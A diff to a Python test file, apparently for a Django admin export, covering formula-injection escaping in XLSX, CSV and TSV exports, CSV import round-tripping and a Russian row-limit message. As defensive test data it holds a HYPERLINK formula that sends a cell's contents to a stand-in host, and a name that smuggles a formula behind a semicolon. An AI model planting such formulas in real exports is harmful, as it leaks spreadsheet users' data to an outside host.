@@ -111,31 +111,56 @@ def _export(client: Client, fmt: str) -> bytes:
 
 
 def test_exports_never_turn_payers_text_into_spreadsheet_formulas(make_user, participant) -> None:
-    """A name that reads as a formula stays text: exact in XLSX (a text cell), quoted with an
-    apostrophe in CSV and TSV; plain negative numbers are left alone."""
+    """A name that reads as a formula stays text: exact in XLSX (a text cell, also for what
+    looks like an error code), quoted with an apostrophe in CSV and TSV, every field in double
+    quotes so that a spreadsheet splitting on ";" (Russian Excel) cannot cut a formula into a
+    cell of its own; plain negative numbers are left alone."""
+    import csv
     import io
 
     from openpyxl import load_workbook
 
     Participant.objects.filter(pk=participant.pk).update(
-        last_name='=HYPERLINK("http://x.example/?"&A1,"Жми")', first_name="@SUM(1+1)", patronymic="-150.00"
+        last_name='=HYPERLINK("http://x.example/?"&A1,"Жми")', first_name=" @SUM(1+1)", patronymic="#N/A"
     )
     client = signed_in(make_user("auditor"))
 
     sheet = load_workbook(io.BytesIO(_export(client, "xlsx"))).active
     rows = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
     assert rows['=HYPERLINK("http://x.example/?"&A1,"Жми")'] == "s"
-    assert rows["@SUM(1+1)"] == "s"
-    assert all(kind != "f" for kind in rows.values())
+    assert rows[" @SUM(1+1)"] == "s"
+    assert rows["#N/A"] == "s"
+    assert all(kind not in ("f", "e") for kind in rows.values())
 
     body = _export(client, "csv").decode("utf-8")
-    assert "'=HYPERLINK(" in body
-    assert "'@SUM(1+1)" in body
-    assert "-150.00" in body
-    assert "'-150.00" not in body
+    (_header, row) = list(csv.reader(io.StringIO(body)))
+    assert row[1:] == ['\'=HYPERLINK("http://x.example/?"&A1,"Жми")', "' @SUM(1+1)", "#N/A"]
+    assert all(line.startswith('"') for line in body.splitlines())  # every field quoted
+
+    Participant.objects.filter(pk=participant.pk).update(last_name="ИВАНОВ;=1+2", first_name="-150.00")
+    body = _export(client, "csv").decode("utf-8")
+    assert '"ИВАНОВ;=1+2"' in body  # one quoted field: ";" inside quotes splits nothing
+    assert '"-150.00"' in body
 
     tsv = _export(client, "tsv").decode("utf-8")
-    assert "'@SUM(1+1)" in tsv
+    assert '"ИВАНОВ;=1+2"' in tsv
+
+
+def test_a_calendar_exported_as_csv_and_imported_again_keeps_its_names(make_user) -> None:
+    """The apostrophe the CSV export puts before formula-like text is taken off on import."""
+    from records.admin import CalendarDayResource
+    from records.export_formats import CSV
+    from records.models import CalendarDay
+
+    day = CalendarDay.objects.get(date="2026-12-16")
+    CalendarDay.objects.filter(pk=day.pk).update(note="-перенос-", name_en="=Independence Day")
+    dataset = CalendarDayResource().export(queryset=CalendarDay.objects.filter(pk=day.pk))
+    exported = CSV().export_data(dataset)
+    assert "'-перенос-" in exported
+    imported = CalendarDayResource().import_data(CSV().create_dataset(exported), dry_run=False, raise_errors=True)
+    assert not imported.has_errors()
+    day.refresh_from_db()
+    assert (day.note, day.name_en) == ("-перенос-", "=Independence Day")
 
 
 def test_an_export_larger_than_the_limit_is_refused_with_a_reason(settings, make_user, participant, people) -> None:
@@ -163,6 +188,14 @@ def test_an_export_larger_than_the_limit_is_refused_with_a_reason(settings, make
     assert response.status_code == 200
     assert "Content-Disposition" not in response
     assert "The export would hold 2 rows, more than the 1 one export may hold" in response.content.decode()
+    settings.EXPORT_MAX_ROWS = 0
+    response = client.post(
+        reverse("admin:records_participant_export"),
+        {"format": "0", "resource": "0", "participantresource_iin": "on"},
+        HTTP_ACCEPT_LANGUAGE="ru",
+    )
+    assert "В выгрузке было бы 2 строки" in response.content.decode()
+    settings.EXPORT_MAX_ROWS = 1
     assert not AccessLog.objects.filter(kind=AccessLog.Kind.EXPORT).exists()
     # Filtered down to the limit, it goes through.
     response = client.post(
